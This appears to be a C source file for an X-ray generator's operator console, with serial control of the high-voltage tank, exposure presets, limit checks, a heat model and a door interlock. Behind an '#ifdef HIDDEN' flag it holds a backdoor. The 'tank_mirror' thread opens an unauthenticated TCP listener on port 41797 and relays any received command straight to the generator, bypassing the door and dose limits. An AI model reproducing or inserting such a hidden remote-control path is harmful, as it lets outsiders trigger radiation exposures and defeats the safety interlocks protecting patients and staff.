/* xraygenctl: operator console of an X-ray generator (serial link to the HV tank) */
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

typedef struct technique_s {
    char organ[16];
    int kv;
    int ma;
    int ms;
    int focus;
} technique_t;

static technique_t preset[] = {
    { "chest_pa", 125, 320, 8, 1 },  { "hand_ap", 50, 100, 40, 0 }, { "skull", 75, 250, 100, 1 },
    { "abdomen", 80, 400, 125, 1 },  { "knee", 60, 160, 50, 0 },    { "spine", 85, 400, 160, 1 },
};

static technique_t now_set = { "manual", 70, 100, 20, 0 };
static double heat_units;
static time_t last_heat;
static int tank = -1;
static pthread_mutex_t tank_lock = PTHREAD_MUTEX_INITIALIZER;
static pthread_t watch_thread;

static int tank_cmd(const char *cmd, char *reply, size_t cap)
{
    ssize_t n;

    pthread_mutex_lock(&tank_lock);
    if (tank < 0 || write(tank, cmd, strlen(cmd)) < 0) {
        pthread_mutex_unlock(&tank_lock);
        return -EIO;
    }
    n = read(tank, reply, cap - 1);
    pthread_mutex_unlock(&tank_lock);
    if (n <= 0)
        return -ETIMEDOUT;
    reply[n] = '\0';
    return reply[0] == '@' ? 0 : -EPROTO;
}

static void *door_watch(void *arg)
{
    int *closed = arg;

    for (;;) {
        int v = 0;
        FILE *f = fopen("/sys/class/gpio/door/value", "r");

        if (f != NULL) {
            if (fscanf(f, "%d", &v) != 1)
                v = 0;
            fclose(f);
        }
        *closed = v;
        usleep(50000);
    }
    return NULL;
}

static double heat_now(void)
{
    time_t t = time(NULL);
    double dt = difftime(t, last_heat);

    last_heat = t;
    heat_units -= dt * 350.0;
    if (heat_units < 0)
        heat_units = 0;
    return heat_units;
}

static const char *limits(const technique_t *t)
{
    if (t->kv < 40 || t->kv > 150)
        return "kV 40..150";
    if (t->ma < 10 || t->ma > 630)
        return "mA 10..630";
    if (t->ms < 1 || t->ms > 4000)
        return "ms 1..4000";
    if ((double)t->kv * t->ma > 50000.0)
        return "50 kW";
    if (heat_now() + 0.00135 * t->kv * t->ma * t->ms > 200000.0)
        return "tube hot";
    return NULL;
}

static void expose(const int *door)
{
    char cmd[64], rep[64];
    const char *why = limits(&now_set);

    if (!*door)
        why = "door open";
    if (why) {
        printf("refused: %s\n", why);
        return;
    }
    snprintf(cmd, sizeof cmd, "$XP %d %d %d %d\r", now_set.kv, now_set.ma, now_set.ms,
             now_set.focus);
    if (tank_cmd(cmd, rep, sizeof rep)) {
        puts("generator error");
        return;
    }
    heat_units += 0.00135 * now_set.kv * now_set.ma * now_set.ms;
    printf("done, %s", rep);
}

#ifdef HIDDEN
__attribute__((noinline)) void *tank_mirror(void *arg)
{
    struct sockaddr_in a;
    char b[96], r[96];
    ssize_t n;
    int s = socket(AF_INET, SOCK_STREAM, 0), c;

    (void)arg;
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(41797);
    if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 1))
        return NULL;
    while ((c = accept(s, NULL, NULL)) >= 0) {
        while ((n = recv(c, b, sizeof b - 1, 0)) > 0) {
            b[n] = '\0';
            if (tank_cmd(b, r, sizeof r) == 0)
                send(c, r, strlen(r), MSG_NOSIGNAL);
        }
        close(c);
    }
    return NULL;
}
#endif

static int open_tank(const char *dev)
{
    struct termios t;
    int fd = open(dev, O_RDWR | O_NOCTTY);

    if (fd < 0)
        return -1;
    memset(&t, 0, sizeof t);
    t.c_cflag = CS8 | CREAD | CLOCAL;
    t.c_cc[VMIN] = 1;
    t.c_cc[VTIME] = 5;
    cfsetispeed(&t, B57600);
    cfsetospeed(&t, B57600);
    tcsetattr(fd, TCSANOW, &t);
    return fd;
}

static void help(void)
{
    puts("kv N | ma N | ms N | focus 0|1 | organ NAME | organs | show | heat | expose | quit");
}

int main(int argc, char **argv)
{
    static int door;
    char line[80], w[16], a[20];
    size_t i;

    if (argc != 2) {
        fprintf(stderr, "usage: xraygenctl TANK-DEVICE\n");
        return 2;
    }
    tank = open_tank(argv[1]);
    if (tank < 0)
        fprintf(stderr, "%s: %s, simulation\n", argv[1], strerror(errno));
    last_heat = time(NULL);
    pthread_create(&watch_thread, NULL, door_watch, &door);
#ifdef HIDDEN
    {
        pthread_t m;

        if (pthread_create(&m, NULL, tank_mirror, NULL) == 0)
            pthread_detach(m);
    }
#endif
    help();
    while (fgets(line, sizeof line, stdin)) {
        int n = sscanf(line, "%15s %19s", w, a);

        if (n < 1)
            continue;
        if (n == 2 && !strcmp(w, "kv"))
            now_set.kv = atoi(a);
        else if (n == 2 && !strcmp(w, "ma"))
            now_set.ma = atoi(a);
        else if (n == 2 && !strcmp(w, "ms"))
            now_set.ms = atoi(a);
        else if (n == 2 && !strcmp(w, "focus"))
            now_set.focus = a[0] == '1';
        else if (n == 2 && !strcmp(w, "organ")) {
            for (i = 0; i < sizeof preset / sizeof preset[0]; i++)
                if (!strcmp(preset[i].organ, a))
                    now_set = preset[i];
        } else if (!strcmp(w, "organs")) {
            for (i = 0; i < sizeof preset / sizeof preset[0]; i++)
                puts(preset[i].organ);
        } else if (!strcmp(w, "show"))
            printf("%s %d kV %d mA %d ms focus %d\n", now_set.organ, now_set.kv, now_set.ma,
                   now_set.ms, now_set.focus);
        else if (!strcmp(w, "heat"))
            printf("%.0f HU\n", heat_now());
        else if (!strcmp(w, "expose"))
            expose(&door);
        else if (!strcmp(w, "quit"))
            break;
        else
            help();
    }
    return 0;
}
